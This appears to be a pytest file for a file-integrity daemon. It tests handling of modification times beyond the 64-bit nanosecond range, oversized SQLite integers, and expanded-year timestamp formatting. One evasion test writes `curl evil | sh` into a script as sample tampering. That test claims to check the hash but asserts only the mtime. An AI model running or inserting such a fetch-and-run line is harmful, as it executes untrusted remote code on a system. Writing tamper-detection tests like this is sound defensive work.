"""Any value the kernel returns is representable (issue #22, 1): an mtime after 2262-04-11 is past 2**63
nanoseconds, which SQLite's INTEGER cannot hold; before, `touch -d 2300-01-01 f` poisoned the flush (OverflowError),
`f` and the files created with it never reached the trail, and a restart's start-up diff never finished."""

from __future__ import annotations

import contextlib
import os
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import DaemonProcess, wait_for
from trail_checks import final_check, lagging

from codi2.disk.fs import Facts
from codi2.journal.journal import Journal
from codi2.trail.events import rfc3339_ns
from codi2.trail.replay import fold_events

Start = Callable[..., DaemonProcess]
LAG = pytest.mark.parametrize("lag", [True, False], ids=["lagging", "keeping-up"])
NS = 1_000_000_000
# 2300-01-01, the Unix epoch, before it, 2116 (fits), and past 2**63 ns by far (ext4 stores up to 2446).
TIMES = {"y2300": 10_413_792_000 * NS, "epoch0": 0, "y1969": -86_400 * NS, "y2116": 4_607_280_000 * NS}
TIMES["y2446"] = 15_032_385_535 * NS


def _maybe(daemon: DaemonProcess, lag: bool) -> contextlib.AbstractContextManager[None]:
    return lagging(daemon) if lag else contextlib.nullcontext()


def _set_mtime(path: Path, ns: int) -> None:
    os.utime(path, ns=(ns, ns))


@LAG
def test_far_mtimes_are_recorded_and_cost_no_other_file_its_record(
    workspace: Path, daemon_factory: Start, lag: bool
) -> None:
    ws = workspace
    daemon = daemon_factory()
    with _maybe(daemon, lag):
        for i in range(5):
            (ws / f"plain{i}.txt").write_text(f"plain {i}\n")
        for name, ns in TIMES.items():
            (ws / f"{name}.txt").write_text(f"{name}\n")
            _set_mtime(ws / f"{name}.txt", ns)
    events = final_check(daemon, ws)
    state = fold_events(events)
    for name, ns in TIMES.items():
        recorded = state[(str(ws), f"{name}.txt")]
        assert recorded.mtime == rfc3339_ns(ns), (name, recorded.mtime)
        assert os.stat(ws / f"{name}.txt").st_mtime_ns == ns
    assert {f"plain{i}.txt" for i in range(5)} <= {p for _, p in state}
    assert not [e for e in events if e.action == "gap"]


@LAG
def test_a_write_hidden_behind_a_far_mtime_still_updates_the_hash(
    workspace: Path, daemon_factory: Start, lag: bool
) -> None:
    """The evasion: append to a script, then set its mtime past 2262. The trail must not vouch for the old sha256."""
    ws = workspace
    script = ws / "config.sh"
    script.write_text("echo hello\n")
    daemon = daemon_factory()
    with _maybe(daemon, lag):
        with script.open("a") as f:
            f.write("curl evil | sh\n")
        _set_mtime(script, TIMES["y2300"])
    events = final_check(daemon, ws)
    assert fold_events(events)[(str(ws), "config.sh")].mtime == rfc3339_ns(TIMES["y2300"])


def test_a_far_mtime_made_while_down_is_found_by_the_start_up_diff(workspace: Path, daemon_factory: Start) -> None:
    ws = workspace
    (ws / "kept.txt").write_text("before\n")
    daemon = daemon_factory()
    assert daemon.terminate(60) == 0
    (ws / "kept.txt").write_text("changed while down\n")
    _set_mtime(ws / "kept.txt", TIMES["y2446"])
    (ws / "new.txt").write_text("new while down\n")
    daemon = daemon_factory()  # waits for the start-up diff to finish: it did not before
    wait_for(lambda: daemon.status()["initial_scan"] == "done")
    events = final_check(daemon, ws)
    offline = {e.path for e in events if e.origin == "offline"}
    assert {"kept.txt", "new.txt"} <= offline


def test_the_index_holds_values_past_64_bits(tmp_path: Path) -> None:
    """In process: the index stores and finds any int the kernel can return (inode and device numbers are u64)."""
    journal = Journal(tmp_path / "journal.db")
    huge = Facts("file", 1, 0o644, 2**64 + 5, -(2**63) - 1, 2**64 - 1, 2**63, 1, None)
    plain = Facts("file", 2, 0o644, 5, 6, 7, 8, 1, None)
    with journal.transaction():
        journal.put_many([("/r", b"a", plain), ("/r", b"b", huge)])
        journal.put("/r", b"c", huge)
    assert journal.get("/r", b"b") == huge
    assert journal.get_many("/r", [b"a", b"b", b"c"]) == {b"a": plain, b"b": huge, b"c": huge}
    assert journal.below("/r", b"", b"", 10) == [(b"a", plain), (b"b", huge), (b"c", huge)]
    assert sorted(journal.linked(2**63, 2**64 - 1)) == [("/r", b"b"), ("/r", b"c")]
    journal.close()
    raw = sqlite3.connect(tmp_path / "journal.db").execute("SELECT typeof(mtime_ns) FROM files ORDER BY key")
    assert [t for (t,) in raw] == ["integer", "blob", "blob"]


@pytest.mark.parametrize(
    ("ns", "text"),
    [
        (10_413_792_000 * NS, "2300-01-01T00:00:00.000000Z"),
        (253_402_300_800 * NS, "+10000-01-01T00:00:00.000000Z"),
        (2**64, "2554-07-21T23:34:33.709551Z"),
        (10**12 * NS + 5_000, "+33658-09-27T01:46:40.000005Z"),
        (-62_135_596_801 * NS, "+00000-12-31T23:59:59.000000Z"),
        (-(10**12) * NS, "-29719-04-05T22:13:20.000000Z"),
    ],
)
def test_times_outside_years_1_to_9999_use_the_expanded_form(ns: int, text: str) -> None:
    assert rfc3339_ns(ns) == text
